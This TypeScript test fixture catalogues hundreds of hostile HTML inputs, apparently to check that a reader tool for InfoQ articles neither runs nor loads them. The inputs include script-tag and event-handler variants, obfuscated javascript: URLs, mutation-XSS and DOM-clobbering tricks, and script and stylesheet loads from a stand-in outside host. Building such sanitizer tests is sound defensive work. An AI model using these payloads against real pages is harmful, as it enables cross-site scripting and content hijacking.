/** A way in which the content of a page may try to run, to load, or to take over what surrounds it. */
export interface Vector {
  readonly name: string;
  readonly html: string;
}

/** What each vector would do if it could. The page counts it. */
const run = 'ran(this)';
/** A host that no page of the tests requests by itself. */
export const outside = 'https://outside.example';

const byClass = (name: string, list: readonly string[]): Vector[] =>
  list.map((html, index) => ({ name: `${name} ${index + 1}`, html }));

const scripts = byClass('script', [
  `<script>${run}</script>`,
  `<SCRIPT>${run}</SCRIPT>`,
  `<script src="${outside}/a.js"></script>`,
  `<script type="module">${run}</script>`,
  `<script type="importmap">{"imports":{"a":"${outside}/a.js"}}</script>`,
  `<script type="speculationrules">{"prefetch":[{"urls":["${outside}/p"]}]}</script>`,
  `<scr<script>ipt>${run}</script>`,
  `<script/x>${run}</script>`,
  `<script\n>${run}</script\n>`,
  `<<script>${run}//<</script>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script href="${outside}/a.js"></script></svg>`,
  `<svg><script xlink:href="data:,${run}"></script></svg>`,
  `<math><script>${run}</script></math>`,
  `<svg><![CDATA[><script>${run}</script>]]></svg>`,
  `<svg><desc><script>${run}</script></desc></svg>`,
  `<template><script>${run}</script></template>`,
  `<template shadowrootmode="open"><img src="x:" onerror="${run}"></template>`,
  `<noscript><script>${run}</script></noscript>`,
  `<table><script>${run}</script><tr><td>表</td></tr></table>`,
  `<select><script>${run}</script></select>`,
  `<textarea><script>${run}</script></textarea>`,
  `<title><script>${run}</script></title>`,
  `<xmp><script>${run}</script></xmp>`,
  `<iframe><script>${run}</script></iframe>`,
  `<noembed><script>${run}</script></noembed>`,
  `<noframes><script>${run}</script></noframes>`,
  `<comment><script>${run}</script></comment>`,
  `<?xml-stylesheet href="javascript:${run}"?>`,
  `<!--><script>${run}</script>-->`,
  `<![if !IE]><script>${run}</script><![endif]>`,
]);

const events =
  'abort animationend animationiteration animationstart auxclick beforeinput beforematch beforetoggle blur cancel canplay change click close command contentvisibilityautostatechange contextmenu copy cuechange cut dblclick drag dragend dragenter dragleave dragover dragstart drop durationchange emptied ended error focus focusin focusout formdata fullscreenchange gotpointercapture input invalid keydown keypress keyup load loadeddata loadedmetadata loadstart lostpointercapture mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup paste pause play playing pointercancel pointerdown pointerenter pointerleave pointermove pointerout pointerover pointerrawupdate pointerup progress ratechange readystatechange reset resize scroll scrollend scrollsnapchange search securitypolicyviolation seeked seeking select selectionchange selectstart slotchange stalled submit suspend timeupdate toggle touchcancel touchend touchmove touchstart transitioncancel transitionend transitionrun transitionstart volumechange waiting webkitanimationend wheel'.split(
    ' ',
  );

const carriers = [
  'img src="x:"',
  'p tabindex="0"',
  'details open',
  'svg viewBox="0 0 99 99"',
  'math',
  'td',
  'a href="#x"',
];

const handlers: Vector[] = events.map((event, index) => {
  const tag = carriers[index % carriers.length] ?? 'p';
  return { name: `on${event} on ${tag}`, html: `<${tag} on${event}="${run}">字</${tag.split(' ')[0]}>` };
});

const oddHandlers = byClass('handler', [
  `<img src=x: onerror=${run}>`,
  `<img src="x:" ONERROR="${run}">`,
  `<img src="x:" onerror&#61;"${run}">`,
  `<img/src="x:"/onerror="${run}">`,
  `<img src="x:"\nonerror\n=\n"${run}">`,
  `<img """><img src="x:" onerror="${run}">">`,
  `<img src="x:" onerror="&#114;an()">`,
  `<img src="x:" onerror="\\u0072an()">`,
  `<image src="x:" onerror="${run}">`,
  `<img srcset="x:" onerror="${run}">`,
  `<picture><source srcset="x:"><img src="x:" onerror="${run}"></picture>`,
  `<audio src="x:" onerror="${run}"></audio>`,
  `<video><source src="x:" onerror="${run}"></video>`,
  `<body onload="${run}">`,
  `<input autofocus onfocus="${run}">`,
  `<marquee onstart="${run}">字</marquee>`,
  `<svg><animate onbegin="${run}" attributeName="x" dur="1s"/></svg>`,
  `<svg><set onbegin="${run}" attributeName="x" to="1"/></svg>`,
  `<svg onload="${run}"><rect width="99" height="99"/></svg>`,
  `<svg><g onload="${run}"><text>字</text></g></svg>`,
  `<object data="x:" onerror="${run}"></object>`,
  `<embed src="x:" onerror="${run}">`,
  `<iframe src="about:blank" onload="${run}"></iframe>`,
  `<link rel="stylesheet" href="x:" onerror="${run}">`,
  `<style onload="${run}">p{}</style>`,
  `<keygen autofocus onfocus="${run}">`,
  `<custom-element onclick="${run}">字</custom-element>`,
  `<p is="x-y" onclick="${run}">字</p>`,
]);

/** Spellings of an address that runs script. */
const schemes = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  ` javascript:${run}`,
  `java\tscript:${run}`,
  `java\nscript:${run}`,
  `&#106;avascript:${run}`,
  `javascript&colon;${run}`,
  `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;${run}`,
  `\u0001javascript:${run}`,
  `javascript://x%0a${run}`,
  `view-source:javascript:${run}`,
  `vbscript:${run}`,
  `data:text/html,<script>parent.${run}</script>`.replaceAll('<', '&lt;'),
  `data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuKCk8L3NjcmlwdD4=`,
];

/** Places that accept an address. */
const places: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}">链接</a>`,
  (address) => `<a href="#" xlink:href="${address}">链接</a>`,
  (address) => `<map name="m"><area href="${address}" alt="字"></map>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<form action="${address}"><button>按</button></form>`,
  (address) => `<form><button formaction="${address}">按</button><input type="submit" formaction="${address}"></form>`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<embed src="${address}">`,
  (address) => `<img src="${address}" alt="字">`,
  (address) => `<img data-src="${address}" alt="字">`,
  (address) => `<svg viewBox="0 0 99 99"><a href="${address}"><text>字</text></a></svg>`,
  (address) => `<svg viewBox="0 0 99 99"><a xlink:href="${address}"><text>字</text></a></svg>`,
  (address) => `<svg viewBox="0 0 99 99"><use href="${address}"/><text>字</text></svg>`,
  (address) => `<svg><a><animate attributeName="href" to="${address}"/><text>字</text></a></svg>`,
  (address) => `<math><mrow href="${address}"><mi>x</mi></mrow></math>`,
  (address) => `<math href="${address}"><mi>x</mi></math>`,
  (address) => `<video src="${address}" poster="${address}"></video>`,
  (address) => `<input type="image" src="${address}">`,
  (address) => `<table background="${address}"><tr><td background="${address}">表</td></tr></table>`,
  (address) => `<blockquote cite="${address}">引文</blockquote>`,
  (address) => `<frameset><frame src="${address}"></frameset>`,
  (address) => `<a href="/link?target=${address}">链接</a>`,
];

const addresses: Vector[] = places.flatMap((place, at) =>
  schemes.map((address, index) => ({ name: `address ${at + 1}.${index + 1}`, html: place(address) })),
);

const frames = byClass('frame', [
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x: onerror=parent.${run}&gt;" src="https://www.infoq.cn/"></iframe>`,
  `<iframe src="//outside.example/frame"></iframe>`,
  `<object type="text/html" data="data:text/html,&lt;script&gt;${run}&lt;/script&gt;"></object>`,
  `<portal src="${outside}/p"></portal>`,
  `<fencedframe></fencedframe>`,
  `<applet code="a.class" codebase="${outside}/"></applet>`,
]);

/** Trees that become different trees when they are serialized and parsed again. */
const mutations = byClass('mutation', [
  `<noscript><p title="</noscript><img src=x: onerror=${run}>"></noscript>`,
  `<svg></p><style><a title="</style><img src=x: onerror=${run}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=${run}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=${run}>`,
  `<math><mtext><table><mglyph><svg><mtext><textarea><path title="</textarea><img src=x: onerror=${run}>">`,
  `<svg><foreignObject><p title="</foreignObject></svg><img src=x: onerror=${run}>">字</p></foreignObject></svg>`,
  `<math><annotation-xml encoding="text/html"><style><img title="</style><img src=x: onerror=${run}>"></style></annotation-xml></math>`,
  `<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x: onerror=${run}>">`,
  `<template><s><template><s><img src=x: onerror=${run}></s></template></s></template>`,
  `<select><template><style><!--</template><a rel="--></style></template></select><img src=x: onerror=${run}>">`,
  `<table><caption><svg><title><table><caption></caption></table></title><style><a title="</style><img src=x: onerror=${run}>">`,
  `<a href="\u2028javascript:${run}"><svg><style>&lt;img src=x: onerror=${run}&gt;</style></svg>字</a>`,
  `<xmp><p title="</xmp><img src=x: onerror=${run}>">`,
  `<noembed><p title="</noembed><img src=x: onerror=${run}>">`,
  `<iframe><p title="</iframe><img src=x: onerror=${run}>">`,
  `<textarea><p title="</textarea><img src=x: onerror=${run}>">`,
  `<title><p title="</title><img src=x: onerror=${run}>">`,
  `<p title="&lt;/p&gt;&lt;img src=x: onerror=${run}&gt;">字</p>`,
  `<img alt="\`\`onerror=${run}" src="x:">`,
  `<pre><code>&lt;img src=x: onerror=${run}&gt;&lt;script&gt;${run}&lt;/script&gt;</code></pre>`,
  `<p data-label="&lt;img src=x: onerror=${run}&gt;" data-tex="</script><script>${run}</script>">字</p>`,
  `${'<div>'.repeat(300)}<img src=x: onerror=${run}>${'</div>'.repeat(300)}`,
  `${'<svg><foreignObject>'.repeat(60)}<img src=x: onerror=${run}>`,
]);

const styles = byClass('style', [
  `<style>@import "${outside}/a.css"; body * { display: none !important } :host { opacity: 0 }</style>`,
  `<link rel="stylesheet" href="${outside}/b.css">`,
  `<p style="background:url(${outside}/c.png)">字</p>`,
  `<p style="position:fixed;inset:0;z-index:2147483647;background:#fff">盖住</p>`,
  `<p style="width:expression(${run});behavior:url(#default);-moz-binding:url(${outside}/x.xml#a)">字</p>`,
  `<svg viewBox="0 0 99 99"><style>@import url(${outside}/d.css)</style><text>字</text></svg>`,
  `<svg viewBox="0 0 99 99"><rect fill="url(${outside}/e.svg#a)" width="99" height="99"/></svg>`,
  `<svg viewBox="0 0 99 99"><rect style="fill:url(${outside}/f.svg#a)" width="99" height="99"/></svg>`,
  `<svg viewBox="0 0 99 99"><rect mask="url('${outside}/g.svg#a')" clip-path="url( ${outside}/h.svg#a )" width="99" height="99"/></svg>`,
  `<svg viewBox="0 0 99 99"><rect fill="u\\72l(${outside}/l.svg#a)" width="99" height="99"/></svg>`,
  `<svg viewBox="0 0 99 99"><rect mask="image-set('${outside}/m.png' 1x)" width="99" height="99"/></svg>`,
  `<svg viewBox="0 0 99 99"><rect mask="src('${outside}/n.svg#a')" width="99" height="99"/></svg>`,
  `<svg viewBox="0 0 99 99"><image href="${outside}/i.png"/><text>字</text></svg>`,
  `<svg viewBox="0 0 99 99"><filter id="f"><feImage href="${outside}/j.png"/></filter><text filter="url(#f)">字</text></svg>`,
  `<svg viewBox="0 0 99 99"><use href="${outside}/k.svg#a"/><text>字</text></svg>`,
  `<font color="expression(${run})">字</font>`,
  `<math><mo lspace="-9999px" rspace="-9999px">x</mo><mpadded lspace="-500px" voffset="-500px"><mi>y</mi></mpadded></math>`,
]);

const documents = byClass('document', [
  `<meta http-equiv="refresh" content="0;url=${outside}/refresh">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  `<meta http-equiv="Content-Security-Policy" content="default-src 'none'">`,
  `<meta http-equiv="set-cookie" content="a=b">`,
  `<base href="${outside}/"><base target="_self">`,
  `<link rel="prefetch" href="${outside}/prefetch"><link rel="preconnect" href="${outside}">`,
  `<link rel="manifest" href="${outside}/manifest"><link rel="icon" href="${outside}/icon">`,
  `<link rel="import" href="${outside}/import">`,
  `<form action="${outside}/form"><input name="a" value="b"><button>按</button></form>`,
  `<form id="f" action="${outside}/g"></form><button form="f">按</button>`,
  `<a href="${outside}/ping" ping="${outside}/pinged">链接</a>`,
  `<a href="${outside}/window" target="_top" rel="opener">链接</a>`,
  `<a href="${outside}/download" download>链接</a>`,
  `<dialog open>盖住</dialog>`,
  `<div popover="manual" id="pop">盖住</div><button popovertarget="pop">按</button>`,
  `<button commandfor="pop" command="show-popover">按</button>`,
  `<p slot="x" part="y" exportparts="y" class="tools rail" tabindex="1" accesskey="x" contenteditable autofocus inert>字</p>`,
  `<p class="prose" data-part="body" data-action="toggle" data-do="copy" data-name="x" role="button" aria-hidden="true">字</p>`,
  `<button data-action="toggle">按</button><button data-do="copy">按</button>`,
  `<infoq-reader mode="reader">假</infoq-reader>`,
  `<style data-infoq-reader>body { display: none }</style>`,
  `<ol><li data-marker="${'假'.repeat(5000)}">字</li></ol><p data-marker="假">字</p>`,
  `<style>#liar li::marker { content: "${'假'.repeat(500)}" counter(list-item) }</style><ol id="liar"><li>字</li></ol>`,
  `<p id="infoq-reader-title">字</p><p id="infoq-reader-note">字</p>`,
]);

/** Properties that we, or functions that we call, use on documents, elements and forms. */
export const properties =
  'append appendChild attachShadow attributes baseURI before body childElementCount childNodes children className classList click cloneNode closest compareDocumentPosition contains content createElement createElementNS createRange createTreeWalker createDocumentFragment createNodeIterator activeElement addEventListener removeEventListener dispatchEvent defaultView documentElement doctype documentURI firstChild firstElementChild focus forms getAttribute getAttributeNames getAttributeNode getBoundingClientRect getClientRects getElementById getElementsByTagName getRootNode getSelection hasAttribute hasAttributes hasChildNodes head hidden host id implementation importNode adoptNode innerHTML insertBefore isConnected lang lastChild lastElementChild length localName location matches method name namespaceURI navigation nextElementSibling nextSibling nodeName nodeType nodeValue outerHTML ownerDocument parentElement parentNode prepend previousElementSibling previousSibling querySelector querySelectorAll readyState remove removeAttribute removeChild replaceChild replaceChildren replaceWith scrollIntoView scrollingElement setAttribute setAttributeNode shadowRoot style styleSheets submit tagName target textContent title toString valueOf visibilityState hasOwnProperty constructor __proto__ then'.split(
    ' ',
  );

const clobbers: Vector[] = properties.flatMap((property) => [
  { name: `a form's ${property}`, html: `<form><input name="${property}"><input id="${property}" value="字"></form>` },
  { name: `a document's ${property}`, html: `<img name="${property}" src="x:" alt=""><a id="${property}">字</a>` },
]);

export const vectors: readonly Vector[] = [
  ...scripts,
  ...handlers,
  ...oddHandlers,
  ...addresses,
  ...frames,
  ...mutations,
  ...styles,
  ...documents,
  ...clobbers,
];

const sentences = '井边的石头是湿的，昨夜下过一场谁也没有听见的雨。水桶还挂在原来的地方，绳子却换了新的一根。';

/** An article that contains the vectors, one after another; a script of the page inserts them. */
export function hostilePage(title: string, list: readonly Vector[]): string {
  const parts = JSON.stringify(list.map(({ html }) => html)).replaceAll('<', '\\u003c');
  return `<!DOCTYPE html><html lang="zh-CN"><head><meta charset="utf-8"><title>${title}_InfoQ精选文章</title></head><body>
<script>
window.log = [];
window.ran = (at) => log.push(at instanceof Node && at.getRootNode() instanceof ShadowRoot ? 'panel ' + at.outerHTML : 'page');
</script>
<div class="article-main"><h1 class="article-title">${title}</h1><p>作者：<a class="com-author-name">林三更</a></p>
<div class="article-preview"><div class="ProseMirror"><h2>上半页</h2><p>${sentences}</p><div id="here"></div><h2>下半页</h2><p>${sentences}</p></div></div></div>
<script>
const here = Document.prototype.querySelector.call(document, '#here');
for (const html of ${parts}) {
  const box = Document.prototype.createElement.call(document, 'div');
  here.append(box);
  box.innerHTML = html;
}
</script></body></html>`;
}
